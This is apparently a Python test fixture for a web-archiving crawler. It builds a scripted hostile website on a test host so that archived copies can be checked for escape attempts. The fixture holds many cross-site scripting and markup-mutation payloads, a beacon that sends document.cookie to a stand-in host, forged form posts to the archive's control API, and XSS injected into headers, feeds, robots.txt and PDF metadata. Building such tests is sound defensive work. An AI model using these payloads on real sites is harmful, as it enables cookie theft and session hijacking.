"""A web made to break out of an archive, crawled twice, so that its pages have versions.

`LIVE` is a host of that web which is up while copies are looked at: every request it gets then is one too many.
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

from teia.clock import WallClock
from teia.collections.control_file import Inbox, VisitPage
from teia.crawler.lookup import Lookup
from teia.indexer.process import CollectionFollower
from teia.lab.world.exchange import WorldAnswer
from teia.store.root import Root, open_root
from tests.crawler.webs import Page, ScriptedWeb, crawl_web, html
from tests.waiting import until

HOST, LIVE = "evil.test", "live.test"
XSS = "<img src=x onerror=\"document.title='broken in'\"><script>document.title='broken in'</script>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('/api/v1/c')</script><circle r='9'/></svg>"
GIF = bytes.fromhex("47494638396101000100800000ff0000ffffff21f90401000000002c00000000010001000002024401003b")


def answer(body: str, media_type: str = "text/html; charset=utf-8", head: str = "") -> WorldAnswer:
    return WorldAnswer(200, f"Content-Type: {media_type}\r\n{head}".encode(), body.encode())


def breaking_out(own: str, live: str) -> str:
    """Everything that a page could do to whoever looks at its copy."""
    return f"""<!doctype html><html><head>
<title>Sala de perigo</title>
<base href="{live}/elsewhere/" target="_blank">
<meta http-equiv="refresh" content="0; url={live}/refreshed">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="dns-prefetch" href="{live}"><link rel="preconnect" href="{live}">
<link rel="prefetch" href="/api/v1/status"><link rel="stylesheet" href="{live}/live.css">
<link rel="stylesheet" href="{own}/ours.css">
<style>@import "/api/v1/c"; @\\69mport "{live}/imported.css"; body {{ background: u\\72l({live}/back.gif) }}
#a {{ background: url(/api/v1/status) }} p::after {{ content: "url(" }}</style>
<script>fetch('/api/v1/status'); navigator.serviceWorker?.register('/sw.js'); parent.document.title = 'broken in';
new Image().src = '{live}/beacon?' + document.cookie; top.location = '{live}/top'</script>
</head><body onload="fetch('/api/v1/c'); document.forms[0].submit()">
<p id="a" style="background: url({live}/styled.gif)">Um texto inofensivo sobre perigo.</p>
<p><a id="away" href="{own}/other" target="_top" ping="{live}/ping" onclick="alert(1)">para outra</a>
<a href="javascript:fetch('/api/v1/status')">corre</a> <a href="data:text/html,<script>alert(1)</script>">dados</a>
<a id="here" href="#end">fim</a></p>
<form action="/c/main/command" method="post"><input name="command" value="stop"><button id="send">envia</button></form>
<form action="{live}/form"><button id="send-live" formaction="{live}/formaction">envia</button></form>
<img id="ours" src="{own}/ours.gif" alt="nossa"><img src="{live}/live.gif" srcset="{live}/live2.gif 2x"
 onerror="fetch('/api/v1/c')"> <img src="/api/v1/status"><img src="{own}/never.gif">
<picture><source srcset="{live}/source.gif"><img src="{live}/picture.gif"></picture>
<svg width="10" height="10"><script>fetch('/api/v1/c')</script><a xlink:href="{live}/svg"><text y="9">x</text></a>
<image href="{live}/svgimage.gif" /><use href="{live}/use.svg#x" /><rect fill="url({live}/paint.svg#p)" />
<set attributeName="href" to="{live}/animated" /><foreignObject><iframe src="/api/v1/c"></iframe></foreignObject></svg>
<iframe src="/api/v1/status"></iframe><iframe srcdoc="<script>parent.fetch('/api/v1/c')</script>"></iframe>
<object data="{live}/object"></object><embed src="{live}/embed">
<video src="{live}/video" poster="{live}/poster"></video>
<template shadowrootmode="open"><img src="{live}/shadow.gif"></template>
<noscript><img src="{live}/noscript.gif"><p title="</noscript><img src={live}/mutated.gif>"></noscript>
<button popovertarget="x" onclick="fetch('/api/v1/c')">abre</button><p id="end">fim</p>
<math><mtext><table><mglyph><style><img src="{live}/mxss.gif" onerror="fetch('/api/v1/c')"></style></mglyph></table>
</math>
</body></html>"""


def pages(own: str, live: str, version: int) -> dict[str, Page]:
    """The evil host as it is at its first or second visit."""
    words = "O mercado abre às nove." if version == 1 else "O mercado fecha às nove, e a feira não."
    marked = "<p>A mesma coisa.</p>" if version == 1 else "<div><b>A MÊSMA</b> coisa.</div>"
    return {
        "/": html("/perigo", "/other", "/changing", "/markup", "/svg", "/doc.pdf", "/xss", "/plain.txt", "/moved",
                  "/odd", "/feed.xml", "/gone", "/no?x"),
        "/perigo": answer(breaking_out(own, live)),
        "/other": html("/", text="A outra página, com um perigo também."),
        "/changing": html("/", *([] if version == 1 else ["/new-link"]), text=words),
        "/markup": answer(f"<html><head><title>M</title></head><body>{marked}</body></html>"),
        "/ours.gif": WorldAnswer(200, b"Content-Type: image/gif\r\n", GIF),
        "/ours.css": answer(f"#ours {{ width: 37px }} b {{ background: url(ours.gif), url({live}/x) }}", "text/css"),
        "/svg": answer(SVG, "image/svg+xml"),
        "/doc.pdf": WorldAnswer(200, b"Content-Type: application/pdf\r\n", PDF),
        "/robots.txt": answer(
            f"User-agent: *\nDisallow: /no?\nDisallow: /{XSS}\nSitemap: {own}/sitemap.xml\n", "text/plain"
        ),
        "/sitemap.xml": answer(f"<urlset><url><loc>{own}/map?{_escaped(XSS)}</loc></url></urlset>", "text/xml"),
        "/feed.xml": answer(
            f"<rss version='2.0'><channel><title>{_escaped(XSS)}</title><item><title>{_escaped(XSS)}</title>"
            f"<link>{own}/fed?{_escaped(XSS)}</link></item></channel></rss>", "application/rss+xml",
        ),
        "/moved": WorldAnswer(302, f"Location: {own}/target?{XSS}\r\nX-Why: {XSS}\r\n".encode(), b""),
        "/gone": WorldAnswer(404, f"X-Why: {XSS}\r\nContent-Type: text/html; charset={XSS}\r\n".encode(), XSS.encode()),
        "/odd": answer(
            f"<html lang='{_escaped(XSS)}'><head><title>perigo estranho</title><link rel=canonical href='/c?{XSS}'>"
            f"<meta name=robots content='{_escaped(XSS)}'></head><body><p>perigo estranho</p></body></html>",
            f"text/html; charset={XSS}", head=f"Last-Modified: {XSS}\r\nContent-Language: {XSS}\r\nServer: {XSS}\r\n",
        ),
        "/plain.txt": answer(f"apenas texto {XSS}", "text/plain; charset=utf-8"),
        "/xss": answer(
            f"<html lang='\"><script>alert(1)</script>'><head><title>perigo {_escaped(XSS)}</title>"
            f"<meta name=description content='{_escaped(XSS)}'></head><body><h1>{_escaped(XSS)}</h1>"
            f"<p>perigo {_escaped(XSS)} perigo</p><a href='/p?{XSS}'>{_escaped(XSS)}</a></body></html>",
            head=f"ETag: \"{XSS}\"\r\nX-Evil: {XSS}\r\n",
        ),
    }  # fmt: skip


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;")


PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length 44>>stream
BT /F1 12 Tf 20 100 Td (Um edital velho) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
6 0 obj<</Title(perigo <img src=x onerror="document.title=1">)/Author(<script>alert\\(1\\)</script>)>>endobj
trailer<</Root 1 0 R/Info 6 0 R>>
"""


def crawl_twice(folder: Path) -> Path:
    """Crawl the evil web, and once more after it has changed; index it. Returns the data folder."""
    # The first port that is free is kept: URLs name it.
    first = crawl_web(ScriptedWeb({HOST: {"/": html()}, LIVE: {}}), folder / "ports", f"{HOST}/")
    own, live = f"http://{HOST}:{first.port}", f"http://{LIVE}:{first.port}"
    for version in (1, 2):
        web = ScriptedWeb({HOST: pages(own, live, version), LIVE: {}})
        settings: dict[str, Any] = {"archive__requisites": True, "sites__probe_after_pages": 0}
        done = crawl_web(web, folder, f"{HOST}/", port=first.port, meanwhile=_all_taken, **settings)
        if version == 1:
            _ask_for_all(done.data)
    asyncio.run(_index(done.data))
    return done.data


def _ask_for_all(data: Path) -> None:
    """Let the next crawl visit every page again."""
    root = open_root(data)
    control = Inbox(root.path / "control.sqlite")
    with Lookup(root, "main") as lookup:
        for url in lookup.urls_of_host(HOST, 100):
            control.send("main", VisitPage(url), time.time())
    control.close()


def _all_taken(root: Root) -> None:
    """Wait until the crawler has taken all requests."""
    control = Inbox(root.path / "control.sqlite")
    try:
        until(lambda: not control.pending("main", VisitPage), "the crawler takes the requests")
    finally:
        control.close()


async def _index(data: Path) -> None:
    following = CollectionFollower(open_root(data), "main", WallClock())
    try:
        await following.finish()
    finally:
        await following.close()


def url_of(data: Path, path: str) -> str:
    with Lookup(open_root(data), "main") as lookup:
        return next(
            url for url in lookup.urls_of_host(HOST, 100) if url.partition("://")[2].partition("/")[2] == path[1:]
        )
